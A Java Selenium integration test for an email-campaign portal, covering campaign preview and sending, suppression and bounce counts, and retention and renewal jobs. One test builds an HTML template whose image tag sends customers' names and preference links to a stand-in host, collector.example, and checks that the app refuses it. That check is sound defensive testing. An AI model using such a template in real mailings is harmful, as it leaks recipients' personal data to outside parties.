package app.custodian;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import app.custodian.testing.Api.Reply;
import app.custodian.testing.Browser;
import app.custodian.testing.DatabaseSeeds;
import app.custodian.testing.PortalStack;
import app.custodian.testing.ReceivedMail;
import app.custodian.testing.Resources;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.SQLException;
import java.time.Duration;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.Function;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.By;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.NoSuchElementException;
import org.openqa.selenium.StaleElementReferenceException;
import org.openqa.selenium.WebDriver;
import org.openqa.selenium.support.ui.WebDriverWait;

/**
 * The campaign and job screens in a real browser: marketing writes a campaign with a live preview,
 * sees how many would get it, sends it and watches it go; an admin runs a retention dry run and
 * renewal reminders from the jobs screen.
 */
class PortalCampaignsIT {

  static final Duration SENDING = Duration.ofSeconds(90);

  @TempDir static Path dataDir;
  static PortalStack stack;

  @BeforeAll
  static void start() {
    // one message a second: slow enough to watch the progress move
    stack = PortalStack.start(dataDir, Map.of("CUSTODIAN_SEND_RATE", "1"));
  }

  @AfterAll
  static void stop() throws Exception {
    Resources.closeAll(stack);
  }

  @Test
  void marketingWritesPreviewsAndSendsACampaignToTheOptedInOnly() {
    List<String> optedIn = List.of(customer(true), customer(true), customer(true));
    customer(false);
    suppress(customer(true));
    String subject = "Tin tháng " + UUID.randomUUID().toString().substring(0, 8);

    int before = campaignCount();
    try (Browser b = stack.signedInAs("MARKETING")) {
      b.go("/campaigns/list.xhtml");
      b.type(By.id("create:name"), "Bản tin tháng 11");
      b.type(By.id("create:subject"), subject);
      b.type(By.id("create:textBody"), "Xin chào {{fullName}}, có gì mới tháng này.");
      b.waitForText(By.id("create:textBodyMessage"), "{{unsubscribeUrl}}");
      b.click(By.id("create:create-campaign"));
      b.settle();
      b.waitForText(By.id("create:textBodyMessage"), "{{unsubscribeUrl}}");
      assertEquals(before, campaignCount(), "a body without the unsubscribe link creates nothing");

      b.type(
          By.id("create:textBody"),
          "Xin chào {{fullName}}, có gì mới tháng này. Hủy đăng ký: {{unsubscribeUrl}}");
      b.type(
          By.id("create:htmlBody"),
          "<p>Xin chào {{fullName}}</p><p><a href=\"{{unsubscribeUrl}}\">Hủy đăng ký</a></p>");
      // the preview is re-rendered by each (delayed) keyup: read it until it settles
      until(
          b,
          d ->
              d.findElement(By.id("preview-text")).getText().contains("Xin chào Nguyễn Văn A")
                  && d.findElement(By.id("preview-text")).getText().contains("/unsubscribe?t=")
                  && d.findElement(By.id("preview-subject")).getText().startsWith("[QC] " + subject)
                  && d.findElement(By.id("preview-html")).isDisplayed());
      b.settle();
      b.screenshot("campaigns-list-create-preview");
      b.assertAccessible("campaigns-create-preview");

      b.click(By.id("create:create-campaign"));
      b.waitFor(By.id("campaign-name"));
      assertEquals(before + 1, campaignCount());
      assertEquals("3", b.text(By.id("campaign:audience")), "the opted-in, not suppressed");
      b.screenshot("campaigns-detail-draft");
      b.assertAccessible("campaign-draft");

      b.click(By.id("campaign:send"));
      b.click(By.id("campaign:confirm-yes"));
      b.waitForText(By.id("status"), "SENDING");
      until(b, d -> !d.findElement(By.id("stat-sent")).getText().equals("0"));
      b.screenshot("campaigns-detail-sending");
      b.waitForText(By.id("status"), "SENT", SENDING);
      assertFalse(b.text(By.id("status")).contains("SENDING"));
      assertEquals("3", b.text(By.id("stat-sent")));
      assertEquals("1", b.text(By.id("stat-skippedSuppressed")));
      b.screenshot("campaigns-detail-sent");
      b.assertAccessible("campaign-sent");

      cameBack(optedIn.get(0), "HARD_BOUNCE");
      cameBack(optedIn.get(1), "COMPLAINT");
      b.driver().navigate().refresh();
      b.waitForText(By.id("stat-bounced"), "1");
      assertEquals("1", b.text(By.id("stat-complained")));
      assertTrue(b.pageSource().contains("Bị báo là thư rác"), "labelled in Vietnamese");
      b.screenshot("campaigns-detail-came-back");
      b.go("/campaigns/list.xhtml");
      b.waitForText(By.id("campaigns:table"), "Bản tin tháng 11");
      assertTrue(b.text(By.id("campaigns:table")).contains("bị trả lại 1, bị báo thư rác 1"));
      b.screenshot("campaigns-list");
      b.assertAccessible("campaigns");
    }
    assertEquals(sorted(optedIn), sorted(ReceivedMail.recipientsOf(stack.smtp, "[QC] " + subject)));

    try (Browser b = stack.signedInAs("OPERATOR")) {
      b.go("/customers/detail.xhtml?tab=messages&id=" + customerId(optedIn.get(0)));
      b.waitForText(By.id("messages-sent"), "Bị trả lại (địa chỉ không tồn tại)");
      ((JavascriptExecutor) b.driver())
          .executeScript("document.getElementById('messages-sent').scrollIntoView()");
      b.screenshot("customers-detail-message-came-back");
      b.assertAccessible("customer-messages");
    }
  }

  @Test
  void theFormShowsWhyATemplateLeaksAndAnOlderCampaignThatLeaksIsNotSent() throws Exception {
    String collector =
        "<img src=\"https://collector.example/p?n={{fullName}}&u={{preferencesUrl}}\">"
            + "<p><a href=\"{{unsubscribeUrl}}\">Hủy đăng ký</a></p>";
    String email = customer(true);
    String subject = "Trước quy tắc " + UUID.randomUUID().toString().substring(0, 8);
    String saved;
    try (Connection db = stack.postgres.connect(stack.databaseUrl)) {
      saved =
          new DatabaseSeeds(db, null, null)
              .campaign(
                  "NEWSLETTER", true, subject, "Chào {{fullName}}. {{unsubscribeUrl}}", collector);
    }
    int before = campaignCount();

    try (Browser b = stack.signedInAs("MARKETING")) {
      b.go("/campaigns/list.xhtml");
      b.type(By.id("create:name"), "Ảnh theo dõi");
      b.type(By.id("create:subject"), "Tin mới");
      b.type(By.id("create:textBody"), "Chào {{fullName}}. Hủy: {{unsubscribeUrl}}");
      b.type(By.id("create:htmlBody"), collector);
      String refused =
          "{{fullName}} and {{preferencesUrl}} stand inside the src attribute of <img>";
      b.waitForText(By.id("create:htmlBodyMessage"), refused); // the preview's check
      b.click(By.id("create:create-campaign"));
      b.settle();
      b.waitForText(By.id("create:htmlBodyMessage"), refused);
      b.screenshot("campaigns-list-template-refused");
      b.assertAccessible("campaigns-template-refused");
      assertEquals(before, campaignCount(), "nothing created");

      b.go("/campaigns/detail.xhtml?id=" + saved);
      b.click(By.id("campaign:send"));
      b.click(By.id("campaign:confirm-yes"));
      b.waitForText(
          By.id("messages"),
          "htmlBody: {{fullName}} and {{preferencesUrl}} stand inside the src attribute of <img>");
      b.screenshot("campaigns-detail-send-refused");
      b.assertAccessible("campaign-send-refused");
      assertTrue(b.text(By.id("status")).contains("DRAFT"), b.text(By.id("status")));
    }
    assertEquals("DRAFT", stack.admin.get("/api/v1/campaigns/" + saved).json().getString("status"));
    assertEquals(List.of(), ReceivedMail.recipientsOf(stack.smtp, "[QC] " + subject), email);
  }

  @Test
  void anAdminRunsARetentionDryRunAndRenewalRemindersFromTheJobsScreen() {
    String due = dueCustomer();

    try (Browser b = stack.signedInAs("ADMIN")) {
      b.go("/jobs/list.xhtml");
      b.click(By.id("jobs:retention-dry-run"));
      b.waitForText(By.id("jobs:due"), due, SENDING);
      b.waitForText(By.id("dry-run-summary"), "1");
      assertEquals(
          "Hợp đồng cuối cùng đã kết thúc hơn P90D (CUSTODIAN_RETENTION_AFTER_CONTRACT_END).",
          b.text(By.cssSelector("#jobs\\:due .due-reason")),
          "why, in the reader's words, with the configured period");
      assertEquals(200, stack.admin.get("/api/v1/customers/" + due).status(), "still there");
      b.waitFor(By.id("jobs:retention-purge"));
      b.click(By.cssSelector("#jobs\\:table .ui-row-toggler"));
      b.waitForText(By.cssSelector(".job-report"), due);
      b.screenshot("jobs-list-dry-run-report");
      b.assertAccessible("jobs-dry-run-report");
      b.click(By.cssSelector("#jobs\\:due a.due-customer"));
      b.waitForText(By.tagName("h1"), "Khách Cũ"); // the id opens the customer's page
      b.go("/jobs/list.xhtml");

      b.click(By.id("jobs:run-renewal"));
      b.waitFor(
          By.xpath(
              "//tr[td[normalize-space()='renewal-reminders']]"
                  + "[td/span[@class='job-status' and normalize-space()='COMPLETED']]"));
      b.screenshot("jobs-list");
      b.assertAccessible("jobs");
    }
    assertEquals(
        200, stack.admin.get("/api/v1/customers/" + due).status(), "a dry run deletes none");

    try (Browser b = stack.signedInAs("MARKETING")) {
      b.go("/jobs/list.xhtml");
      assertTrue(b.pageSource().contains("Your roles do not open this page"), b.pageSource());
    }
  }

  // --- helpers

  /** Waits for the condition, reading again when an Ajax update replaced an element meanwhile. */
  static void until(Browser b, Function<WebDriver, Boolean> condition) {
    new WebDriverWait(b.driver(), SENDING)
        .ignoring(StaleElementReferenceException.class)
        .ignoring(NoSuchElementException.class)
        .until(condition);
  }

  /** A customer, opted in to NEWSLETTER or not; answers the email address. */
  static String customer(boolean optedIn) {
    String email = "c-" + UUID.randomUUID() + "@example.vn";
    String id = create("Phạm Thu Hà", email);
    if (optedIn) {
      Reply granted =
          stack.admin.put(
              "/api/v1/customers/" + id + "/consents/NEWSLETTER",
              "{\"granted\":true,\"source\":\"web-form\"}");
      assertEquals(200, granted.status(), granted::toString);
    }
    return email;
  }

  /** A customer whose only contract ended two years ago: due for the retention purge. */
  static String dueCustomer() {
    String id = create("Khách Cũ", "old-" + UUID.randomUUID() + "@example.vn");
    LocalDate today = LocalDate.now();
    Reply contract =
        stack.admin.post(
            "/api/v1/customers/" + id + "/contracts",
            "{\"reference\":\"HD-OLD\",\"service\":\"Internet\",\"startsOn\":\"%s\",\"endsOn\":\"%s\"}"
                .formatted(today.minusYears(4), today.minusYears(2)));
    assertEquals(201, contract.status(), contract::toString);
    return id;
  }

  static String create(String fullName, String email) {
    Reply created =
        stack.admin.post(
            "/api/v1/customers",
            "{\"fullName\":\"%s\",\"email\":\"%s\"}".formatted(fullName, email));
    assertEquals(201, created.status(), created::toString);
    return created.json().getString("id");
  }

  static void suppress(String email) {
    Reply suppressed =
        stack.admin.post("/api/v1/suppressions", "{\"email\":\"%s\"}".formatted(email));
    assertTrue(suppressed.status() / 100 == 2, suppressed::toString);
  }

  static String customerId(String email) {
    return stack.admin.get("/api/v1/customers?q=" + email).items().getJsonObject(0).getString("id");
  }

  /** What the mail-returns job records for the customer's campaign message. */
  static void cameBack(String email, String kind) {
    try (Connection db = stack.postgres.connect(stack.databaseUrl)) {
      new DatabaseSeeds(db, null, null)
          .execute(
              "insert into mail_return (id, source, source_id, kind, message_key, customer_id,"
                  + " suppressed, received_at) select ?, 'MAILBOX', ?, ?, message_key,"
                  + " customer_id, true, now() from delivery where customer_id = ?",
              UUID.randomUUID().toString(),
              UUID.randomUUID().toString(),
              kind,
              customerId(email));
    } catch (SQLException e) {
      throw new IllegalStateException(e);
    }
  }

  static int campaignCount() {
    return stack.admin.get("/api/v1/campaigns").json().getInt("total");
  }

  static List<String> sorted(List<String> values) {
    return values.stream().sorted().toList();
  }
}
